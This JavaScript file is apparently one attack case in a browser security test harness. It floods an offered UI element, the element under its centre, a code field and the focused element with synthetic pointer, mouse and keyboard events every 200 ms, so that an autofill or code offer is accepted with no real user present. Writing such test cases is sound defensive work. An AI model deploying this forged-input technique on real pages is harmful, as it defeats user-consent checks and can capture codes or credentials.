/* Attack: no user at all; the page sends every event that a click or a key makes. */
import { codeField, lure } from "../lure.js";

const EVENTS = [
  () => new PointerEvent("pointerdown", { bubbles: true, composed: true, button: 0, buttons: 1 }),
  () => new MouseEvent("mousedown", { bubbles: true, composed: true, button: 0, buttons: 1 }),
  () => new PointerEvent("pointerup", { bubbles: true, composed: true }),
  () => new MouseEvent("mouseup", { bubbles: true, composed: true }),
  () => new PointerEvent("click", { bubbles: true, composed: true, detail: 1 }),
  () => new KeyboardEvent("keydown", { bubbles: true, composed: true, key: "ArrowDown" }),
  () => new KeyboardEvent("keydown", { bubbles: true, composed: true, key: "Enter" }),
  () => new KeyboardEvent("keyup", { bubbles: true, composed: true, key: "Enter" }),
  () => new KeyboardEvent("keydown", { bubbles: true, composed: true, key: " " }),
  () => new KeyboardEvent("keyup", { bubbles: true, composed: true, key: " " }),
];

lure({
  onOffer: (host) => {
    setInterval(() => {
      const { x, y, width, height } = host.getBoundingClientRect();
      const hit = document.elementFromPoint(x + width / 2, y + height / 2);
      for (const target of [host, hit, codeField(), document.activeElement]) {
        for (const make of EVENTS) {
          target?.dispatchEvent(make());
        }
      }
      host.click();
      host.focus();
    }, 200);
  },
  onBait: (bait) => {
    bait.style.left = "20px";
    bait.style.top = "20px";
  },
});
